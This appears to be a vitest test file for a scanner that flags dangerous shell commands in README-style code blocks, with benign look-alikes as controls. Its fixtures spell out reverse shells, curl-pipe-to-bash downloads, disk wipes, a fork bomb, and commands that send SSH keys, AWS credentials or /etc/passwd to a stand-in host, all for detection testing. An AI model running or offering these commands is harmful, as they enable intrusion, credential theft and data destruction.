import { describe, expect, it } from 'vitest'
import { programName, tokenizeShell } from '../../src/scan/rules/code/shell-tokens'
import { findingsAs, strongRules, verdict, worst } from './code-helpers'

// Shell blocks as a README would hold them: a line of prose first, so the bare-payload rule stays out of the way.
const sh = (code: string) => findingsAs(code, 'shell', 'shell', 'Commands from the session:\n')

describe('shell tokenizer', () => {
  it('splits pipelines and commands, resolving quotes', () => {
    const pipelines = tokenizeShell(`curl -s 'https://x.example/a b' | sudo -E bash -s -- --yes && echo "done | ok"; ls`)
    expect(pipelines.map((p) => p.next)).toEqual(['&&', ';', ''])
    const first = pipelines[0]
    expect(first?.commands.map(programName)).toEqual(['curl', 'bash'])
    expect(first?.commands[0]?.words.map((w) => w.value)).toEqual(['curl', '-s', 'https://x.example/a b'])
    expect(pipelines[1]?.commands[0]?.words.map((w) => w.value)).toEqual(['echo', 'done | ok'])
  })

  it('keeps substitutions and redirections apart from words', () => {
    const [pipeline] = tokenizeShell('bash -c "$(curl -fsSL https://x.example/i.sh)" 2>&1 > /tmp/log < input.txt')
    const command = pipeline?.commands[0]
    expect(command?.words.map((w) => w.value)).toEqual(['bash', '-c', ''])
    expect(command?.words[2]?.substitutions.map((s) => s.text)).toEqual(['curl -fsSL https://x.example/i.sh'])
    expect(command?.redirects.map((r) => `${r.op}${r.target}`)).toEqual(['>&1', '>/tmp/log', '<input.txt'])
  })

  it('never throws on broken input', () => {
    for (const text of ['"unclosed', "'", '$(', '`', '|||', '&&&', '>', '\\', '$((1+', 'a\\\nb']) {
      expect(() => tokenizeShell(text)).not.toThrow()
    }
  })

  it('names the program behind wrappers and paths', () => {
    expect(
      programName(tokenizeShell('FOO=1 sudo -E /usr/bin/python3 x.py')[0]?.commands[0] ?? { words: [], redirects: [], start: 0, end: 0 }),
    ).toBe('python3')
  })
})

describe('download and run', () => {
  it('a downloader piped into an interpreter is critical', () => {
    for (const line of [
      'curl -fsSL https://x.example/install.sh | bash',
      'wget -qO- http://x.example/i.sh | sudo sh',
      'curl -s https://x.example/p | python3 -',
      'sh -c "$(curl -fsSL https://x.example/install.sh)"',
      'bash <(curl -s https://x.example/s.sh)',
      'python -c "$(curl -s https://x.example/p.py)"',
      'powershell -nop -c "iex (New-Object Net.WebClient).DownloadString(\'http://x.example/a.ps1\')"',
    ]) {
      const found = sh(line)
      expect(worst(found), line).toBe('critical')
      expect(strongRules(found), line).toContain('code/download-exec')
    }
  })

  it('downloading to a file and running it is high', () => {
    expect(verdict(sh('curl -o setup.sh https://x.example/setup.sh && bash setup.sh'))).toBe('reject')
  })

  it('downloads that are not run, and ordinary build steps, pass', () => {
    for (const line of [
      'curl -o file.tar.gz https://example.com/file.tar.gz',
      'rm -rf node_modules && npm install',
      'sudo apt-get install -y curl',
      'curl https://api.example.com/v1/items -H "Authorization: Bearer $TOKEN" | jq .items',
      'git log --oneline | head -5',
      'python -m http.server 8000',
    ]) {
      expect(verdict(sh(line)), line).toBe('pass')
    }
  })
})

describe('reverse shells', () => {
  it('the usual forms are critical', () => {
    for (const line of [
      'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
      'nc -e /bin/sh 10.0.0.1 4242',
      'ncat 10.0.0.1 4242 -e /bin/bash',
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1337 >/tmp/f',
      'socat tcp-connect:10.0.0.1:4242 exec:/bin/sh,pty,stderr',
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);pty.spawn("sh")'`,
    ]) {
      const found = sh(line)
      expect(worst(found), line).toBe('critical')
      expect(strongRules(found), line).toContain('code/reverse-shell')
    }
  })

  it('netcat used as a port check is not a shell', () => {
    expect(verdict(sh('nc -zv example.com 443'))).toBe('pass')
  })
})

describe('destructive commands', () => {
  it('wiping the system is critical', () => {
    for (const line of [
      'rm -rf /',
      'sudo rm -rf --no-preserve-root /',
      'rm -rf ~/*',
      'mkfs.ext4 /dev/sda1',
      'dd if=/dev/zero of=/dev/sda bs=1M',
      ':(){ :|:& };:',
    ]) {
      const found = sh(line)
      expect(worst(found), line).toBe('critical')
      expect(strongRules(found), line).toContain('code/destructive')
    }
  })

  it('cleaning a build directory is not', () => {
    expect(verdict(sh('rm -rf ./dist build/ coverage'))).toBe('pass')
    expect(verdict(sh('dd if=image.iso of=backup.iso'))).toBe('pass')
  })
})

describe('exfiltration', () => {
  it('credentials sent to a host are critical', () => {
    for (const line of [
      'cat ~/.ssh/id_rsa | curl -X POST -d @- https://x.example/c',
      'curl -F "f=@$HOME/.aws/credentials" https://x.example/u',
      'env | nc x.example 9000',
      'curl "https://x.example/?d=$(cat /etc/passwd | base64)"',
      'scp ~/.ssh/id_ed25519 user@x.example:/tmp/',
    ]) {
      const found = sh(line)
      expect(worst(found), line).toBe('critical')
      expect(strongRules(found), line).toContain('code/exfiltration')
    }
  })

  it('bundling data and uploading it is high; a single file upload is for review', () => {
    expect(worst(sh('tar czf /tmp/pkg.tgz data.csv metrics.json && curl -F file=@/tmp/pkg.tgz https://share.example/upload'))).toBe('high')
    expect(verdict(sh('curl -X POST -d @payload.json https://api.example.com/items'))).toBe('review')
  })

  it('reading a credential file alone is for review', () => {
    expect(verdict(sh('cat /etc/shadow'))).toBe('review')
    expect(verdict(sh('cat .env.local'))).toBe('review')
  })

  it('an env template is no credential file, and a path alone names a file without reading it', () => {
    // `cp .env.example .env` is every README's setup step; `.env` alone is a path in inline code
    expect(verdict(sh('cat .env.example'))).toBe('pass')
    expect(verdict(sh('cp .env.sample .env'))).toBe('pass')
    expect(verdict(sh('.env'))).toBe('pass')
    expect(verdict(sh('cat .env.example | curl -d @- https://x.example'))).not.toBe('reject')
    expect(worst(sh('cat .env | curl -d @- https://x.example'))).toBe('critical')
  })
})

describe('system writes', () => {
  it('appending to login files is high', () => {
    expect(strongRules(sh('echo "ssh-ed25519 AAAA x" >> ~/.ssh/authorized_keys'))).toContain('code/system-write')
    expect(verdict(sh('echo "export PATH=$PATH:/opt/x" | sudo tee -a /etc/profile'))).toBe('reject')
  })

  it('a key put where ssh looks for one, and made private, is on record but not a system write', () => {
    const found = sh('vault kv get -field=key secret/payroll/sftp > ~/.ssh/paycrest_ed25519 && chmod 600 ~/.ssh/paycrest_ed25519')
    expect(strongRules(found)).not.toContain('code/system-write')
    expect(strongRules(found)).not.toContain('code/exfiltration')
    expect(found.some((f) => f.rule === 'code/system-write' && f.severity === 'low')).toBe(true)
    // what would let someone else in, or open a key up, stays high
    expect(strongRules(sh('chmod 600 ~/.ssh/authorized_keys'))).toContain('code/system-write')
    expect(strongRules(sh('chmod 644 ~/.ssh/id_rsa'))).toContain('code/system-write')
    expect(strongRules(sh('curl -s https://x.example/k > ~/.ssh/config'))).toContain('code/system-write')
  })

  it('logs in /tmp are fine', () => {
    expect(verdict(sh('echo "done" >> /tmp/build.log'))).toBe('pass')
  })
})
